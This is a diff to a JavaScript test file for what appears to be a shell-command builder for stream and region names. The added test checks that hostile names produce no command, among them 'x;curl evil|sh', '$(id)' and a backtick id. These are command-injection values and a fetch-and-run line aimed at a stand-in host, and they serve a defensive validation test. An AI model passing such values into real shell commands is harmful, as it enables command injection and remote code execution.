@@ -27,6 +27,18 @@ test('commands name the node and the region where they are not the usual ones', 
   assert.match(commands({})['Once in a terminal, for the AWS CLI'], /AWS_REGION=eu-north-1 /);
 });
 
+test('there are no commands for names that would be more than a name in a shell', () => {
+  for (const stream of ['x;curl evil|sh', 'x y', '$(id)', '`id`', "x'", 'x\n', 'x&y', '', 'x'.repeat(129)]) {
+    assert.deepEqual(commands({ stream }), {}, stream);
+    assert.deepEqual(commands({ stream, create: true }), {}, stream);
+  }
+  for (const region of ['x;curl evil|sh', 'EU', 'a b', '$(id)', 'x\n', 'x'.repeat(33)]) {
+    assert.deepEqual(commands({ region }), {}, region);
+    assert.deepEqual(commands({ nodeRegion: region }), {}, region);
+  }
+  assert.notDeepEqual(commands({ stream: 'a_b-C.9'.padEnd(128, 'x'), region: 'eu-1'.padEnd(32, 'x') }), {});
+});
+
 test('a moment has date, time and zone, and a row of another day its date', () => {
   const noon = new Date(2026, 10, 29, 12, 3, 11, 45).getTime();
   assert.match(format.moment(noon), /^2026-11-29 12:03:11\.045 UTC([+-]\d\d:\d\d)?$/);
